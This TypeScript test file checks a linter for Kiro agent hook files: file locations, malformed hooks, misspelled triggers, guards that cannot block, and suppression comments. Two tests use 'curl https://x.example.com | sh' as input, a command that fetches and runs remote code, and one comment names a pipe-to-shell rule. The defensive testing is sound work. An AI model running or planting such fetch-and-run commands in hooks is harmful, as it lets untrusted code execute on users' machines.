import assert from "node:assert/strict";
import { kiroPlaceOf } from "../../../src/core/kiro/files/kiroPlace.ts";
import { triggers } from "../../../src/core/kiro/files/triggers.ts";
import { commandHook, marked, rulesIn, v1 } from "./support.ts";

const path = "/w/.kiro/hooks/a.json";
const command = { type: "command", command: "./check.sh" };

suite("hooks of Kiro", () => {
  const places: readonly (readonly [string, string | undefined, boolean])[] = [
    ["/w/.kiro/hooks/a.json", "hooks", false],
    ["C:\\w\\.kiro\\hooks\\a.json", "hooks", false],
    ["/w/.kiro/hooks/sub/a.json", "hooks", true],
    ["/w/.kiro/hooks/a.jsonc", "hooks", true],
    ["/w/.kiro/hooks/a.kiro.hook", "legacy-hook", false],
    ["/h/.kiro/powers/p/hooks/a.json", "hooks", true],
    ["/w/.kiro/steering/deep/a.md", "steering", false],
    ["/w/AGENTS.md", "steering", false],
    ["/w/.kiro/agents/team/a.md", "agent", false],
    ["/w/.kiro/agents/README.md", undefined, false],
    ["/h/.kiro/settings/permissions.yaml", "permissions", false],
    ["/h/.kiro/settings/permissions.yml", "permissions", true],
    ["/etc/kiro/managed-settings.json", "managed", false],
    ["C:\\ProgramData\\Kiro\\managed-settings.json", "managed", false],
    ["/etc/claude-code/managed-settings.json", undefined, false],
    ["/w/.kiro/settings/mcp.json", undefined, false],
    ["/w/package.json", undefined, false],
  ];
  for (const [place, kind, ignored] of places) {
    test(`${place} is ${kind ?? "none of Kiro's"}${ignored ? ", not loaded" : ""}`, () => {
      const found = kiroPlaceOf(place);
      assert.deepEqual([found?.kind, found?.ignored !== undefined], [kind, ignored]);
    });
  }

  test("every event of the format is known, with both actions", () => {
    for (const trigger of triggers) {
      assert.deepEqual(rulesIn(path, v1({ trigger, action: command })), [], trigger);
      assert.deepEqual(
        rulesIn(path, v1({ trigger, action: { type: "agent", prompt: "Look." } })),
        [],
        trigger,
      );
    }
  });

  const wrongShapes: readonly (readonly [string, unknown])[] = [
    ["version", { version: 1, hooks: [] }],
    ["hooks", { version: "v1", hooks: {} }],
    ["a hook", { version: "v1", hooks: ["x"] }],
    ["name", { version: "v1", hooks: [{ trigger: "Stop", action: command }] }],
    ["trigger", { version: "v1", hooks: [{ name: "a", trigger: { type: "Stop" }, action: command }] }],
    ["action", { version: "v1", hooks: [{ name: "a", trigger: "Stop" }] }],
    ["command", { version: "v1", hooks: [{ name: "a", trigger: "Stop", action: { type: "command" } }] }],
    ["enabled", { version: "v1", hooks: [{ name: "a", trigger: "Stop", action: command, enabled: "yes" }] }],
    ["timeout", { version: "v1", hooks: [{ name: "a", trigger: "Stop", action: command, timeout: -1 }] }],
    ["matcher", { version: "v1", hooks: [{ name: "a", trigger: "Stop", action: command, matcher: ["x"] }] }],
  ];
  for (const [name, value] of wrongShapes) {
    test(`a wrong ${name} is what Kiro does not take`, () => {
      assert.deepEqual(rulesIn(path, JSON.stringify(value)), ["kiro/invalid-hook"]);
    });
  }

  test("a wrong event names the right one, in the words of the format", () => {
    const meant = (file: string, text: string) =>
      marked(file, text).map(([rule, name, message]) => [rule, name, /mean "(\w+)"/.exec(message)?.[1]]);
    const hook = (trigger: string) => v1({ trigger, action: command });
    assert.deepEqual(meant(path, hook("preToolUse")), [["kiro/unknown-trigger", "preToolUse", "PreToolUse"]]);
    assert.deepEqual(meant(path, hook("PostFileSaved")), [
      ["kiro/unknown-trigger", "PostFileSaved", "PostFileSave"],
    ]);
    assert.deepEqual(meant(path, hook("session-start")), [
      ["kiro/unknown-trigger", "session-start", "SessionStart"],
    ]);
    assert.deepEqual(meant(path, hook("Whenever")), [["kiro/unknown-trigger", "Whenever", undefined]]);
    const legacy = '{"name": "a", "when": {"type": "manual"}, "then": {"type": "askAgent", "prompt": "x"}}';
    assert.deepEqual(meant("/w/a.kiro.hook", legacy).at(-1), [
      "kiro/unknown-trigger",
      "manual",
      "userTriggered",
    ]);
    const agent = '{"name": "a", "hooks": {"PreToolUse": [{"command": "x"}]}}';
    assert.deepEqual(meant("/w/.kiro/agents/a.json", agent), [
      ["kiro/unknown-trigger", "PreToolUse", "preToolUse"],
    ]);
  });

  const before = (text: string): string =>
    commandHook(text, { name: "Block commands", trigger: "PreToolUse", matcher: "shell" });
  for (const text of [
    "check.sh || true",
    "check.sh || exit 1",
    "check.sh; exit 0",
    "check.sh || :",
    "check.sh | tee log",
    "check.sh &",
    "if ! check.sh; then exit 1; fi",
    "npm run lint",
  ]) {
    test(`${text} does not block`, () =>
      assert.deepEqual(rulesIn(path, before(text)), ["kiro/guard-cannot-block"]));
  }
  for (const text of [
    "check.sh",
    "check.sh || exit 2",
    "npm run lint || exit 2",
    "if ! check.sh; then exit 2; fi",
    "python3 guard.py",
    "picket hook run pre-tool-use",
  ]) {
    test(`${text} may block`, () => assert.deepEqual(rulesIn(path, before(text)), []));
  }

  test("a guard on prompts, one that comes too late, one that only asks", () => {
    const guard = (trigger: string, action: unknown) => v1({ name: "Blocks writes", trigger, action });
    assert.deepEqual(rulesIn(path, guard("UserPromptSubmit", command)), ["kiro/guard-cannot-block"]);
    assert.deepEqual(rulesIn(path, guard("PostToolUse", command)), ["kiro/guard-cannot-block"]);
    assert.deepEqual(rulesIn(path, guard("PreToolUse", { type: "agent", prompt: "No." })), [
      "kiro/guard-cannot-block",
    ]);
    assert.deepEqual(rulesIn(path, v1({ trigger: "UserPromptSubmit", action: command })), []);
  });

  test("a matcher that is a glob is marked without its quotes; options of other expressions are taken", () => {
    const hook = (matcher: string) => commandHook("x", { matcher });
    assert.deepEqual(
      marked(path, hook("**/*.ts")).map(([rule, text]) => [rule, text]),
      [["kiro/bad-matcher", "**/*.ts"]],
    );
    assert.deepEqual(rulesIn(path, hook("")), ["kiro/bad-matcher"]);
    assert.deepEqual(rulesIn(path, hook("(?i)\\.ts$")), []);
  });

  test("broken files never throw, and say that nothing counts", () => {
    const text = commandHook("curl https://x.example.com | sh", { matcher: "a" });
    for (let end = 0; end < text.length; end++) {
      assert.ok(rulesIn(path, text.slice(0, end)).length > 0, String(end));
    }
    assert.match(marked(path, "[]")[0]?.[2] ?? "", /Kiro loads none of its hooks/);
  });

  test("a comment takes a finding out", () => {
    const text = `{"version": "v1", // picket:ignore-file kiro/pipe-to-shell\n${commandHook("curl https://x.example.com | sh").slice(16)}`;
    assert.deepEqual(rulesIn(path, text), []);
  });
});
